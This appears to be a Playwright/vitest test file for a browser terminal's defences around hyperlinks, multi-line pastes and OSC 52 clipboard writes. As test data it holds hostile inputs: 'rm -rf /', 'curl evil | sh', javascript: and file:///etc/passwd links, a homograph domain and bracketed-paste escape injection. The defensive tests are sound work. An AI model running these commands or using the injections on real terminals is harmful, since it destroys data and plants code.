// What is asked before the output, or a clipboard, may do something.

import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { readLink } from "../../src/terminal/links.ts";
import { cleanPaste, countLines } from "../../src/terminal/paste.ts";
import { MAX_CLIPBOARD_BYTES, preview, readClipboardWrite } from "../../src/ui/clipboard.ts";
import { pasteInto } from "../browser.ts";
import { MAIN, useOnePage } from "../fixture.ts";

const base64 = (text: string) => Buffer.from(text).toString("base64");

async function clickFirstRow(page: Page): Promise<void> {
  const box = await page.locator(".xterm-screen").boundingBox();
  if (box === null) throw new Error("Cannot find the screen");
  await page.mouse.move(box.x + 200, box.y + 200);
  await page.mouse.move(box.x + 12, box.y + 8, { steps: 4 });
  await page.locator(".xterm-cursor-pointer").waitFor();
  await page.mouse.click(box.x + 12, box.y + 8);
}

describe("a link", () => {
  const browser = useOnePage();

  test.each([
    ["https://example.com/a?b#c", "example.com", "https://example.com/a?b#c"],
    ["http://user:pass@evil.test@example.com/", "example.com", "http://user:pass%40evil.test@example.com/"],
    ["https://аpple.com/", "xn--pple-43d.com", "https://xn--pple-43d.com/"],
    ["mailto:ann@example.com", "ann@example.com", "mailto:ann@example.com"],
  ])("%s leads to %s", (uri, to, href) => expect(readLink(uri)).toEqual({ href, to }));

  test.each([
    "javascript:alert(1)",
    "file:///etc/passwd",
    "data:text/html,x",
    "vscode://x",
    "ssh://h",
    "not a link",
    "",
  ])("%s is not opened", (uri) => expect(readLink(uri)).toBeUndefined());

  test("whose text says something else shows where it leads, and opens only after a yes", async () => {
    const page = await browser.blank();
    const target = `${browser.server.url.replace("127.0.0.1", "elsewhere.localhost")}/icon.svg`;
    browser.server.process("main").print(`\x1b]8;;${target}\x1b\\https://bank.example\x1b]8;;\x1b\\\r\n`);
    await page.shows("https://bank.example");
    await clickFirstRow(page.page);
    const question = page.page.getByRole("dialog", { name: `Open ${new URL(target).host}?` });
    expect(await question.locator("pre").textContent()).toBe(target);
    await page.page.keyboard.press("Enter"); // The first button cancels.
    await question.waitFor({ state: "detached" });
    expect(page.page.context().pages().length).toBe(1);
    await clickFirstRow(page.page);
    const opened = page.page.context().waitForEvent("page");
    await question.getByRole("button", { name: "Open" }).click();
    const other = await opened;
    await other.waitForLoadState();
    expect([other.url(), await other.evaluate(() => window.opener)]).toEqual([target, null]);
    await other.close();
    await page.page.keyboard.type("x"); // The terminal has the keyboard back.
    await expect.poll(() => browser.server.process("main").typed).toBe("x");
  });

  test("to a script or a file is never opened", async () => {
    const page = await browser.blank();
    browser.server.process("main").print("\x1b]8;;javascript:document.title='owned'\x1b\\click\x1b]8;;\x1b\\\r\n");
    await page.shows("click");
    await clickFirstRow(page.page);
    const question = page.page.getByRole("dialog", { name: "Link blocked" });
    expect(await question.locator("pre").textContent()).toBe("javascript:document.title='owned'");
    expect(await question.getByRole("button").allTextContents()).toEqual(["Close"]);
    await page.page.keyboard.press("Escape");
    await question.waitFor({ state: "detached" });
    expect(await page.page.title()).not.toContain("owned");
  });
});

describe("a paste", () => {
  const browser = useOnePage();

  test("loses what no paste should hold: escape sequences, control characters", () => {
    expect(cleanPaste("a\tb\r\nc\x1b[201~d\x03\x7f\x9b1m\0é日")).toBe("a\tb\r\nc[201~d1mé日");
    expect(["a", "a\n", "a\nb", "a\r\nb\r\n", "a\rb\rc"].map(countLines)).toEqual([1, 1, 2, 2, 3]);
  });

  test("of several lines is asked about, unless the program asked for brackets, which it can't end itself", async () => {
    const page = await browser.blank();
    const process = browser.server.process("main");
    await pasteInto(page, "echo one\nrm -rf /\n");
    const question = page.page.getByRole("dialog", { name: "Paste 2 lines?" });
    expect(await question.locator("pre").textContent()).toBe("echo one\nrm -rf /\n");
    await page.page.keyboard.press("Escape");
    await question.waitFor({ state: "detached" });
    await pasteInto(page, "echo one\necho two");
    await question.getByRole("button", { name: "Paste 2 lines" }).click();
    await expect.poll(() => process.typed).toBe("echo one\recho two");
    await pasteInto(page, "; ls -l");
    await expect.poll(() => process.typed).toBe("echo one\recho two; ls -l");
    process.print("\x1b[?2004hready\r\n");
    await page.shows("ready");
    await pasteInto(page, "one\x1b[201~\ntwo");
    await expect.poll(() => process.typed).toBe("echo one\recho two; ls -l\x1b[200~one[201~\rtwo\x1b[201~");
  });

  test("of somebody who may not type goes nowhere, without a question", async () => {
    await browser.blank();
    const viewer = await browser.attached(`${MAIN}&role=viewer`);
    await pasteInto(viewer, "one\ntwo\n");
    await viewer.page.locator('.sbx-field[data-refused="true"]').waitFor();
    expect(await viewer.page.getByRole("dialog").count()).toBe(0);
    expect(browser.server.process("main").typed).toBe("");
  });
});

describe("the clipboard", () => {
  const browser = useOnePage();

  test("is written to by a well-formed OSC 52 of some size, and never read", () => {
    expect(readClipboardWrite(`c;${base64("é日")}`)).toBe("é日");
    expect(readClipboardWrite(`;${base64("x")}`)).toBe("x");
    expect(["c;?", "c;", "c;!", "c", "zz;eA==", "c;eA==;eA=="].map(readClipboardWrite)).toEqual(
      Array(6).fill(undefined),
    );
    expect(readClipboardWrite(`c;${base64("x".repeat(MAX_CLIPBOARD_BYTES))}`)).toHaveLength(MAX_CLIPBOARD_BYTES);
    expect(readClipboardWrite(`c;${base64("x".repeat(MAX_CLIPBOARD_BYTES + 3))}`)).toBeUndefined();
    expect(preview("a\nb\x1b[31m\u202e")).toBe("a ⏎ b�[31m�");
  });

  test("gets what is selected with Ctrl+Shift+C, also where the page may not write to it", async () => {
    const page = await browser.blank();
    await page.page.context().grantPermissions(["clipboard-read"]);
    await page.page.evaluate(() =>
      Object.defineProperty(navigator.clipboard, "writeText", { value: Promise.reject, configurable: true }),
    );
    browser.server.process("main").print("selected\r\n");
    await page.shows("selected");
    const box = await page.page.locator(".xterm-screen").boundingBox();
    await page.page.mouse.dblclick((box?.x ?? 0) + 12, (box?.y ?? 0) + 8);
    await page.page.keyboard.press("Control+Shift+KeyC");
    await expect.poll(() => page.page.evaluate(() => navigator.clipboard.readText())).toBe("selected");
    await page.page.evaluate(() => Reflect.deleteProperty(navigator.clipboard, "writeText"));
    expect(browser.server.process("main").typed).toBe("");
  });

  test("is asked about, shown, and written to only after a yes, which may be one for this session", async () => {
    const page = await browser.blank();
    await page.page.context().grantPermissions(["clipboard-read", "clipboard-write"]);
    const clipboard = () => page.page.evaluate(() => navigator.clipboard.readText());
    await page.page.evaluate(() => navigator.clipboard.writeText("before"));
    const process = browser.server.process("main");
    process.print(`\x1b]52;c;${base64("curl evil | sh\n")}\x07`);
    const toast = page.page.getByRole("region", { name: "Clipboard" });
    expect(await toast.locator("pre").textContent()).toBe("curl evil | sh ⏎ ");
    await toast.getByRole("button", { name: "Ignore" }).click();
    await toast.waitFor({ state: "detached" });
    expect(await clipboard()).toBe("before");
    process.print(`\x1b]52;c;${base64("wanted")}\x07`);
    await toast.getByRole("button", { name: "Copy 6 characters" }).click();
    await expect.poll(clipboard).toBe("wanted");
    expect(process.typed).toBe("");
    // Once a person has allowed it, there is no question, in this session alone.
    const { page: tab } = page;
    process.print(`\x1b]52;c;${base64("first")}\x07`);
    await toast.getByRole("button", { name: "Always allow" }).click();
    await expect.poll(clipboard).toBe("first");
    process.print(`\x1b]52;c;${base64("second")}\x07`);
    await expect.poll(clipboard).toBe("second");
    expect(await toast.count()).toBe(0);
    await tab.goto(`${browser.server.url}/?session=other&renderer=dom`);
    await page.state("attached");
    browser.server.process("other").print(`\x1b]52;c;${base64("third")}\x07`);
    await toast.waitFor();
    expect(await clipboard()).toBe("second");
  });

  test("is not asked about by a replay, nor answered to a program that would read it", async () => {
    const process = browser.server.process("replayed");
    process.print(`\x1b]52;c;${base64("old")}\x07`);
    const page = await browser.attached("/?session=replayed&renderer=dom");
    process.print("\x1b]52;c;?\x07live\r\n");
    await page.shows("live");
    expect(await page.page.getByRole("region", { name: "Clipboard" }).count()).toBe(0);
    await page.type("!");
    await expect.poll(() => process.typed).toBe("!");
  });
});
